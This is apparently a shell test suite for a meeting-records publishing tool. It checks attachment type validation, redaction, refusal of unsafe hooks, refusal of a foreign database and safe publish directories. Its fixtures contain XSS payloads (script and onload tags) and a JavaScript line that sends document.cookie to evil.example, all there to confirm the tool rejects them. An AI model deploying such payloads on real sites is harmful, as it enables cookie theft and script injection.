# Nothing hostile gets out: attachments judged by content and extension, text
# attachments redacted when published, unsafe hooks not run, an empty or foreign
# gavel.db refused, and publish --out only into an empty directory or a site.

RECORD_DIR=meetings/2026/2026-12-01-council
SITE_DIR=site/meetings/2026-12-01-council

# roads_meeting: $MEETING with item 1 "Roads" (and 2 "Parks").
roads_meeting() {
	new_meeting --template blank
	ok agenda add "$MEETING" "Roads"
	ok agenda add "$MEETING" "Parks"
}

# zip_file PATH ENTRY... : a ZIP archive of the entries (name=content), the
# first stored, the others deflated, as office suites write them.
zip_file() {
	python3 - "$@" <<'EOF'
import sys, zipfile
path, entries = sys.argv[1], sys.argv[2:]
with zipfile.ZipFile(path, "w") as z:
    for i, e in enumerate(entries):
        name, content = e.split("=", 1)
        z.writestr(name, content, zipfile.ZIP_STORED if i == 0 else zipfile.ZIP_DEFLATED)
EOF
}

# make_allowed DIR: one file of every type gavel attaches, named for it.
make_allowed() {
	local d=$1
	mkdir -p "$d"
	printf '%%PDF-1.4\n1 0 obj <<>> endobj\n%%%%EOF\n' >"$d/report.pdf"
	for ext in doc xls ppt; do
		printf '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00 office %s' "$ext" >"$d/old.$ext"
	done
	zip_file "$d/letter.docx" '[Content_Types].xml=<Types/>' 'word/document.xml=<w:document/>'
	zip_file "$d/budget.xlsx" '[Content_Types].xml=<Types/>' 'xl/workbook.xml=<workbook/>'
	zip_file "$d/slides.pptx" '[Content_Types].xml=<Types/>' 'ppt/presentation.xml=<p/>'
	zip_file "$d/minutes.odt" 'mimetype=application/vnd.oasis.opendocument.text' 'content.xml=<c/>'
	zip_file "$d/table.ods" 'mimetype=application/vnd.oasis.opendocument.spreadsheet' 'content.xml=<c/>'
	zip_file "$d/deck.odp" 'mimetype=application/vnd.oasis.opendocument.presentation' 'content.xml=<c/>'
	printf '{\\rtf1\\ansi A memo.}\n' >"$d/memo.rtf"
	printf 'Notes of the site visit.\n' >"$d/notes.txt"
	printf 'road,cost\nElm,1200\n' >"$d/costs.csv"
	printf '# Summary\n\nThe works are on time.\n' >"$d/summary.md"
	printf '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR' >"$d/map.png"
	printf '\xff\xd8\xff\xe0\x00\x10JFIF\x00' >"$d/photo.jpg"
	printf '\xff\xd8\xff\xe1\x00\x10Exif\x00' >"$d/scan.jpeg"
	printf 'GIF89a\x01\x00\x01\x00' >"$d/logo.gif"
	printf 'RIFF\x1a\x00\x00\x00WEBPVP8 ' >"$d/aerial.webp"
}

# media types, in the order make_allowed's files are attached (sorted by name)
ALLOWED_TYPES='{
 "aerial.webp": "image/webp", "budget.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
 "costs.csv": "text/csv", "deck.odp": "application/vnd.oasis.opendocument.presentation",
 "letter.docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
 "logo.gif": "image/gif", "map.png": "image/png", "memo.rtf": "application/rtf",
 "minutes.odt": "application/vnd.oasis.opendocument.text", "notes.txt": "text/plain",
 "old.doc": "application/msword", "old.ppt": "application/vnd.ms-powerpoint",
 "old.xls": "application/vnd.ms-excel", "photo.jpg": "image/jpeg", "report.pdf": "application/pdf",
 "scan.jpeg": "image/jpeg", "slides.pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
 "summary.md": "text/markdown", "table.ods": "application/vnd.oasis.opendocument.spreadsheet"}'

# make_runnable DIR: what a browser would run, each as KIND.EXT.
make_runnable() {
	local d=$1
	mkdir -p "$d"
	printf '<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n' >"$d/page.html"
	printf '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>\n' >"$d/page.xhtml"
	printf '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n' >"$d/image.svg"
	printf '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n<report><total>1</total></report>\n' >"$d/data.xml"
	printf '// tracker\nconst key = document.cookie;\nfetch("https://evil.example/?" + key);\n' >"$d/script.js"
}

# attachments_unchanged: what the refused attachment left: no row, no copy.
snapshot_attachments() {
	find . -path ./record -prune -o -path ./confidential -prune -o -type f -print |
		grep -v '/gavel.db' | sort >"$T/attach.before"
}
expect_attachments_unchanged() {
	find . -path ./record -prune -o -path ./confidential -prune -o -type f -print |
		grep -v '/gavel.db' | sort >"$T/attach.after"
	diff "$T/attach.before" "$T/attach.after" >&2 || fail "files were added"
}

# --- attachments: what is refused --------------------------------------------

t_pages_and_scripts_are_refused_with_their_type_named_whatever_their_name() {
	roads_meeting
	make_runnable "$SCRATCH/r"
	snapshot_attachments
	local f kind
	for f in page.html:"an HTML document" page.xhtml:"an XHTML document" \
		image.svg:"an SVG image" data.xml:"an XML document" script.js:"a JavaScript file"; do
		kind=${f#*:}
		f=${f%%:*}
		refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/r/$f"
		expect_err_contains "$f is $kind: gavel attaches PDF, office documents"
		cp "$SCRATCH/r/$f" "$SCRATCH/r/${f%.*}.pdf"
		refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/r/${f%.*}.pdf"
		expect_err_contains "${f%.*}.pdf is $kind, not a PDF: gavel attaches PDF"
		cp "$SCRATCH/r/$f" "$SCRATCH/r/${f%.*}.txt"
		refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/r/${f%.*}.txt"
		expect_err_contains "${f%.*}.txt is $kind, not plain text"
	done
	expect_attachments_unchanged
}

t_a_script_tag_inside_text_is_refused() {
	roads_meeting
	printf '# Notes\n\nSee below.\n\n<script src="https://evil.example/x.js"></script>\n' >"$SCRATCH/notes.md"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/notes.md"
	expect_err_contains "notes.md is text with a <script> element, not Markdown text"
	printf 'a,b\n1,"<SVG onload=alert(1)>"\n' >"$SCRATCH/data.csv"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/data.csv"
	expect_err_contains "data.csv is text with an <svg> image"
}

t_prose_that_mentions_code_and_tags_is_plain_text() {
	roads_meeting
	printf 'Let the record show that the function of the committee is review.\nConst. Act s. 5 <applies>? a<b and x < y.\n' >"$SCRATCH/minutes.txt"
	ok agenda attach "$MEETING" 1 "$SCRATCH/minutes.txt"
}

t_content_that_disagrees_with_its_extension_is_refused() {
	roads_meeting
	make_allowed "$SCRATCH/a"
	snapshot_attachments
	cp "$SCRATCH/a/map.png" "$SCRATCH/map.pdf"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/map.pdf"
	expect_err_contains "map.pdf is a PNG image, not a PDF: name it for what it is (.png)"
	cp "$SCRATCH/a/report.pdf" "$SCRATCH/report.png"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/report.png"
	expect_err_contains "report.png is a PDF, not a PNG image"
	cp "$SCRATCH/a/letter.docx" "$SCRATCH/letter.odt"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/letter.odt"
	expect_err_contains "letter.odt is a Word document, not an OpenDocument text"
	cp "$SCRATCH/a/minutes.odt" "$SCRATCH/minutes.ods"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/minutes.ods"
	expect_err_contains "minutes.ods is an OpenDocument text, not an OpenDocument spreadsheet"
	zip_file "$SCRATCH/plain.docx" 'readme.txt=hello'
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/plain.docx"
	expect_err_contains "plain.docx is not a Word document"
	zip_file "$SCRATCH/archive.zip" 'readme.txt=hello'
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/archive.zip"
	expect_err_contains "archive.zip is not a type gavel attaches (.zip)"
	printf 'caf\xe9,1\n' >"$SCRATCH/latin1.csv"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/latin1.csv"
	expect_err_contains "latin1.csv is not CSV text in UTF-8"
	printf 'a\0b\n' >"$SCRATCH/nul.txt"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/nul.txt"
	expect_err_contains "nul.txt is not plain text: it holds NUL bytes"
	printf '\x7fELF\x02\x01\x01' >"$SCRATCH/tool.exe"
	refused_unchanged agenda attach "$MEETING" 1 "$SCRATCH/tool.exe"
	expect_err_contains "tool.exe is not a type gavel attaches (.exe)"
	expect_attachments_unchanged
}

# --- attachments: what is published -----------------------------------------

t_every_allowed_type_is_attached_published_linked_and_recorded() {
	roads_meeting
	make_allowed "$SCRATCH/a"
	local f
	for f in $(cd "$SCRATCH/a" && ls | sort); do
		ok agenda attach "$MEETING" 1 "$SCRATCH/a/$f"
	done
	ok agenda show "$MEETING" --json
	json --argjson want "$ALLOWED_TYPES" \
		'[.items[0].attachments[] | {(.name): .media_type}] | add == $want'
	ok agenda publish "$MEETING"
	ok publish
	for f in $(cd "$SCRATCH/a" && ls); do
		cmp -s "$SITE_DIR/files/1-$f" "$SCRATCH/a/$f" || fail "site/ lacks $f as attached"
		grep -qF "href=\"files/1-$f\"" "$SITE_DIR/agenda.html" || fail "the agenda page does not link $f"
		git -C record show "main:$RECORD_DIR/attachments/1-$f" | cmp -s - "$SCRATCH/a/$f" ||
			fail "record/ lacks $f as attached"
	done
	grep -qF "(Word document, " "$SITE_DIR/agenda.html" || fail "the page does not name a Word document"
	grep -qF "(WebP image, " "$SITE_DIR/agenda.html" || fail "the page does not name a WebP image"
}

t_text_attachments_are_published_redacted_and_kept_whole_in_confidential() {
	roads_meeting
	printf 'Offer from [redact]SECRET-TXT-NAME[/redact].\n' >"$SCRATCH/offer.txt"
	printf '# Report\n\nPrepared by [redact]SECRET-MD[/redact] for council.\n' >"$SCRATCH/report.md"
	printf 'owner,amount\n[redact]SECRET-CSV[/redact],1000\n' >"$SCRATCH/owners.csv"
	printf 'Public notes, nothing hidden.\n' >"$SCRATCH/plain.txt"
	for f in offer.txt report.md owners.csv plain.txt; do
		ok agenda attach "$MEETING" 1 "$SCRATCH/$f"
	done
	ok agenda publish "$MEETING"
	ok publish
	eq "$(cat "$SITE_DIR/files/1-offer.txt")" "Offer from [redacted]." "site offer.txt"
	eq "$(git -C record show "main:$RECORD_DIR/attachments/1-offer.txt")" "Offer from [redacted]." \
		"record/ offer.txt"
	eq "$(sed -n 2p "$SITE_DIR/files/1-owners.csv")" "[redacted],1000" "site owners.csv"
	cmp -s "$SITE_DIR/files/1-plain.txt" "$SCRATCH/plain.txt" || fail "a text without spans changed"
	! grep -rqa SECRET site site-cache record --exclude-dir=.git || fail "a redacted span in site/ or record/"
	! git -C record cat-file --batch-all-objects --batch | grep -qa SECRET ||
		fail "a redacted span in an object of record/"
	for s in SECRET-TXT-NAME SECRET-MD SECRET-CSV; do
		git -C confidential cat-file --batch-all-objects --batch | grep -qaF "$s" ||
			fail "confidential/ lacks $s"
	done
	# The listed size is the published file's ("23 bytes"), not the stored one's.
	local size
	size=$(stat -c %s "$SITE_DIR/files/1-offer.txt")
	grep -qF ">offer.txt</a> (text, $size bytes)" "$SITE_DIR/agenda.html" ||
		fail "the page does not list offer.txt at its published size $size"
	grep -qF -- "- offer.txt (text/plain, $size bytes)" "$SITE_DIR/agenda.md" ||
		fail "agenda.md does not list offer.txt at its published size"
}

# An attachment an older gavel stored without these checks: inserted here as it
# would have been, with its copy in attachments/<sha256>.
store_old_attachment() { # NAME FILE TYPE ITEM-NUMBER
	local sha size id
	sha=$(sha256sum "$2" | cut -d' ' -f1)
	size=$(stat -c %s "$2")
	mkdir -p attachments
	cp "$2" "attachments/$sha"
	id=$(sql "SELECT id FROM items WHERE meeting_id = (SELECT id FROM meetings WHERE slug = '$MEETING') AND position = $4 AND parent_id IS NULL")
	sql "INSERT INTO attachments(item_id, name, sha256, media_type, size) VALUES ($id, '$1', '$sha', '$3', $size)"
}

t_an_unsafe_attachment_already_stored_is_withheld_and_check_fails() {
	roads_meeting
	make_runnable "$SCRATCH/r"
	printf 'Schedule of works.\n' >"$SCRATCH/works.txt"
	ok agenda attach "$MEETING" 1 "$SCRATCH/works.txt"
	store_old_attachment "page.html" "$SCRATCH/r/page.html" text/html 1
	store_old_attachment "drawing.pdf" "$SCRATCH/r/image.svg" application/pdf 2
	ok agenda publish "$MEETING"
	ok publish
	[ -f "$SITE_DIR/files/1-works.txt" ] || fail "the safe attachment is not published"
	[ ! -e "$SITE_DIR/files/1-page.html" ] || fail "the HTML attachment is published"
	[ ! -e "$SITE_DIR/files/2-drawing.pdf" ] || fail "the SVG called .pdf is published"
	! grep -qE 'page\.html|drawing\.pdf' "$SITE_DIR/agenda.html" "$SITE_DIR/agenda.md" ||
		fail "the site lists a withheld attachment"
	! git -C record ls-tree -r --name-only main | grep -qE 'page\.html|drawing\.pdf' ||
		fail "record/ holds a withheld attachment"
	! git -C record show "main:$RECORD_DIR/agenda.md" | grep -qE 'page\.html|drawing\.pdf' ||
		fail "the public agenda.md lists a withheld attachment"
	! git -C record cat-file --batch-all-objects --batch | grep -qa 'document.cookie' ||
		fail "the HTML is in an object of record/"
	ok agenda show "$MEETING" --public --json
	json '[.items[].attachments[].name] == ["works.txt"]'
	refused check
	expect_out_contains \
		"FAIL attachments are safe file types: item 1 of $MEETING: page.html is an HTML document" \
		"gavel agenda detach $MEETING 1 'page.html' removes it" \
		"FAIL attachments are safe file types: item 2 of $MEETING: drawing.pdf is an SVG image, not a PDF"
	expect_err_contains "check found 2 problems"
	ok agenda detach "$MEETING" 1 page.html
	ok agenda detach "$MEETING" 2 drawing.pdf
	ok check
	expect_out_contains "ok   attachments are safe file types"
}

t_a_meeting_published_alone_drops_the_files_it_no_longer_has() {
	roads_meeting
	printf 'Schedule.\n' >"$SCRATCH/works.txt"
	ok agenda attach "$MEETING" 1 "$SCRATCH/works.txt"
	ok agenda publish "$MEETING"
	ok publish
	[ -f "$SITE_DIR/files/1-works.txt" ] || fail "not published"
	ok agenda detach "$MEETING" 1 works.txt
	ok agenda publish "$MEETING"
	ok publish "$MEETING"
	[ ! -e "$SITE_DIR/files/1-works.txt" ] || fail "the detached file is still on the site"
	! grep -qF "$MEETING/files/1-works.txt" site.gavel-site || fail "the manifest still lists it"
	# the revision that had it keeps it
	[ -f "$SITE_DIR/revision-1/files/1-works.txt" ] || fail "revision 1 lost its file"
}

t_detach_refuses_a_name_the_item_does_not_have() {
	roads_meeting
	printf 'x\n' >"$SCRATCH/a.txt"
	ok agenda attach "$MEETING" 1 "$SCRATCH/a.txt"
	refused_unchanged agenda detach "$MEETING" 1 b.txt
	expect_err_contains "item 1 has no attachment named 'b.txt'"
	refused_unchanged agenda detach "$MEETING" 2 a.txt
	ok agenda detach "$MEETING" 1 a.txt
	expect_out_contains "Removed a.txt from item 1"
	[ -z "$(ls attachments)" ] || fail "the copy no item has is still in attachments/"
}

# --- hooks ----------------------------------------------------------------------

# hook_script PATH: an executable that leaves PATH.EVENT behind when it runs
# ("on-event.item").
hook_script() {
	printf '#!/bin/sh\ntouch "%s.$GAVEL_EVENT"\n' "$1" >"$1"
	chmod 755 "$1"
}

# live_item: a live event "item" (runs hooks/on-item, then hooks/on-event).
live_item() {
	new_meeting --template blank
	ok agenda add "$MEETING" "Roads"
	ok live "$MEETING" attend "Côté,Tremblay,Haddad" --present --at 19:00
	ok live "$MEETING" start --at 19:00
	ok live "$MEETING" take 1 --at 19:05
}

# wait_for FILE: until FILE exists (hooks run detached), at most 10 s.
wait_for() {
	for _ in $(seq 100); do
		[ -e "$1" ] && return 0
		sleep 0.1
	done
	fail "$1 never appeared"
}

# expect_not_run HOOK WHY: hooks/HOOK, unsafe, did not run on a live item
# although hooks/on-event did (safe, and run after it for the same event by
# the same runner, so that the unsafe one would have run by then); the log,
# hooks list, hooks test and check say why.
expect_not_run() {
	local hook=$1 why=$2
	hook_script "$PWD/hooks/on-event"
	live_item
	wait_for hooks/on-event.item
	[ ! -e "$SCRATCH/on-item.item" ] && [ ! -e hooks/on-item.item ] || fail "the unsafe $hook ran"
	grep -qF "$hook (event item): skipped, $why" hooks/log || fail "hooks/log does not say why"
	ok hooks list
	expect_out_contains "$hook      not run: $why"
	ok hooks list --json
	json --arg h "$hook" '.[] | select(.name == $h) | (.runs | not) and .unsafe'
	refused check
	expect_out_contains "FAIL hooks are safe to run: hooks/$hook is not run: $why"
	rm hooks/on-event.item
	ok hooks test item
	expect_out_contains "$hook (event item): skipped, $why" "on-event (event item): exit 0"
	[ -e hooks/on-event.item ] || fail "hooks test did not run the safe hook"
	[ ! -e "$SCRATCH/on-item.item" ] && [ ! -e hooks/on-item.item ] || fail "hooks test ran the unsafe $hook"
}

t_a_world_writable_hook_is_not_run() {
	hook_script "$PWD/hooks/on-item"
	chmod 757 hooks/on-item
	expect_not_run on-item "world-writable: anyone could change what it does (chmod go-w hooks/on-item)"
}

t_a_group_writable_hook_is_not_run() {
	hook_script "$PWD/hooks/on-item"
	chmod 775 hooks/on-item
	expect_not_run on-item "group-writable: its group could change what it does (chmod go-w hooks/on-item)"
}

t_a_hook_of_another_user_is_not_run() {
	hook_script "$PWD/hooks/on-item"
	chown nobody hooks/on-item || fail "cannot chown (the tests run as root)"
	expect_not_run on-item "owned by nobody, not by $(id -un) who runs gavel (chown $(id -un) hooks/on-item)"
}

t_a_symlink_leading_out_of_hooks_is_not_run() {
	hook_script "$SCRATCH/on-item"
	ln -s "$SCRATCH/on-item" hooks/on-item
	expect_not_run on-item "a symlink leading out of hooks/ (to $(realpath "$SCRATCH")/on-item)"
}

t_no_hook_runs_from_a_hooks_folder_others_can_write() {
	hook_script "$PWD/hooks/on-item"
	chmod g+w hooks
	live_item
	grep -qF "on-item (event item): skipped, hooks/ can be written by its group (chmod go-w hooks/)" hooks/log ||
		fail "hooks/log does not say why"
	refused hooks test item
	expect_err_contains "no hook for 'item' runs: on-item: hooks/ can be written by its group"
	[ ! -e hooks/on-item.item ] || fail "a hook ran from a group-writable hooks/"
	refused check
	expect_out_contains "FAIL hooks are safe to run: hooks/on-item is not run: hooks/ can be written by its group"
}

t_safe_hooks_still_run_and_a_symlink_inside_hooks_is_fine() {
	hook_script "$PWD/hooks/run-item"
	ln -s run-item hooks/on-item
	hook_script "$PWD/hooks/on-event"
	live_item
	wait_for hooks/on-event.item
	[ -e hooks/run-item.item ] || fail "the hook behind a symlink inside hooks/ did not run"
	ok hooks list
	expect_out_contains "on-item      executable" "on-event     executable"
	ok check
	expect_out_contains "ok   hooks are safe to run"
}

# --- the workspace database ---------------------------------------------------

# published_town: a meeting published to record/ and the site.
published_town() {
	new_meeting --template blank
	ok agenda add "$MEETING" "Roads"
	ok agenda publish "$MEETING"
	ok publish
}

site_listing() {
	(cd site && find . -type f -exec sha256sum {} + | sort && find . -printf '%p %m %s %T@\n' | sort)
}

# expect_every_command_refused WHAT: each kind of command is refused saying
# gavel.db WHAT ("is empty") beside the record, check explains, and nothing in
# the workspace changes (gavel.db included).
expect_every_command_refused() {
	local what=$1
	local text="gavel.db $what but record/ holds the town's record: restore gavel.db from a backup (gavel check explains)"
	site_listing >"$T/site.before"
	sha256sum gavel.db >"$T/db.sum"
	files_snapshot
	mkdir "$SCRATCH/out"
	local cmd
	for cmd in "meeting list" "agenda show $MEETING" "meeting new --title X --at 2026-12-09T19:00" \
		"agenda add $MEETING Parks" "live $MEETING start --at 19:00" "publish" \
		"publish --out $SCRATCH/out" "config clerk.name Someone" "hooks list" "search roads"; do
		# shellcheck disable=SC2086
		refused $cmd
		expect_err_contains "$text"
	done
	refused check
	expect_out_contains "FAIL the workspace's database: gavel.db $what, but record/ holds the town's record (main is at commit" \
		"Restore gavel.db from a backup"
	refused init .
	expect_err_contains "$text"
	site_listing >"$T/site.after"
	diff "$T/site.before" "$T/site.after" >&2 || fail "site/ changed"
	sha256sum -c --quiet "$T/db.sum" || fail "gavel.db changed"
	expect_files_unchanged
	eq "$(ls -A "$SCRATCH/out")" "" "files in the --out directory"
	eq "$(ls gavel.db*)" "gavel.db" "files beside gavel.db"
}

t_an_empty_gavel_db_beside_the_record_is_refused_by_every_command() {
	published_town
	: >gavel.db
	expect_every_command_refused "is empty"
}

t_a_gavel_db_that_is_not_sqlite_is_refused_by_every_command() {
	published_town
	printf 'not a database at all\n' >gavel.db
	expect_every_command_refused "is not a database"
}

t_another_programs_sqlite_database_is_refused_by_every_command() {
	published_town
	rm gavel.db
	sqlite3 gavel.db "CREATE TABLE photos(id INTEGER PRIMARY KEY, path TEXT); INSERT INTO photos VALUES (1, 'x.jpg');"
	expect_every_command_refused "is some other program's database"
}

t_another_programs_database_is_refused_even_without_a_record() {
	mkdir "$SCRATCH/w"
	sqlite3 "$SCRATCH/w/gavel.db" "CREATE TABLE photos(id INTEGER PRIMARY KEY);"
	sha256sum "$SCRATCH/w/gavel.db" >"$T/db.sum"
	refused -C "$SCRATCH/w" meeting list
	expect_err_contains "gavel.db is some other program's database: gavel will not write into it"
	sha256sum -c --quiet "$T/db.sum" || fail "gavel.db changed"
}

t_a_missing_gavel_db_beside_the_record_says_so() {
	published_town
	rm gavel.db
	refused meeting list
	expect_err_contains "gavel.db is missing but record/ holds the town's record"
	[ ! -e gavel.db ] || fail "gavel.db was made"
}

t_an_empty_gavel_db_with_a_record_without_commits_is_made_new() {
	# what `gavel init` leaves when it is cut short before the first commit
	mkdir "$SCRATCH/w"
	git init -q "$SCRATCH/w/record"
	: >"$SCRATCH/w/gavel.db"
	ok -C "$SCRATCH/w" meeting list
	eq "$(sqlite3 "$SCRATCH/w/gavel.db" "SELECT count(*) FROM bodies")" 0 "bodies of the new database"
}

# --- publishing into a directory ------------------------------------------------

t_publish_out_refuses_a_directory_that_is_not_a_site_unless_forced() {
	published_town
	mkdir "$SCRATCH/www"
	printf 'my own page\n' >"$SCRATCH/www/index.html"
	printf 'keep me\n' >"$SCRATCH/www/notes.txt"
	(cd "$SCRATCH/www" && find . -exec sha256sum {} + 2>/dev/null | sort) >"$T/www.before"
	refused_unchanged publish --out "$SCRATCH/www"
	expect_err_contains "'$SCRATCH/www' is not empty and is not a gavel site" "--force"
	(cd "$SCRATCH/www" && find . -exec sha256sum {} + 2>/dev/null | sort) >"$T/www.after"
	diff "$T/www.before" "$T/www.after" >&2 || fail "files changed in the refused directory"
	eq "$(ls -A "$SCRATCH/www" | sort | tr '\n' ' ')" "index.html notes.txt " "files in the directory"
	ok publish --out "$SCRATCH/www" --force
	[ -f "$SCRATCH/www.gavel-site" ] && [ ! -e "$SCRATCH/www/.gavel-site" ] && [ -f "$SCRATCH/www/meetings/$MEETING/agenda.html" ] ||
		fail "no site written with --force"
	eq "$(cat "$SCRATCH/www/notes.txt")" "keep me" "a file gavel did not write"
	# now a gavel site: no --force needed
	ok publish --out "$SCRATCH/www"
}

t_publish_out_writes_into_an_empty_or_new_directory_and_an_existing_site() {
	published_town
	mkdir "$SCRATCH/empty"
	ok publish --out "$SCRATCH/empty"
	[ -f "$SCRATCH/empty/index.html" ] || fail "no site in the empty directory"
	ok publish --out "$SCRATCH/new/site"
	[ -f "$SCRATCH/new/site/index.html" ] || fail "no site in the new directory"
	ok publish --out "$SCRATCH/empty"
	expect_out_contains "0 files written"
}

t_the_default_site_folder_follows_the_same_rule() {
	published_town
	rm -rf site
	mkdir site
	printf 'x\n' >site/other.html
	refused_unchanged publish
	expect_err_contains "site' is not empty and is not a gavel site" "--force"
	eq "$(ls -A site)" "other.html" "files in site/"
	ok publish --force
	[ -f site/index.html ] || fail "no site with --force"
}
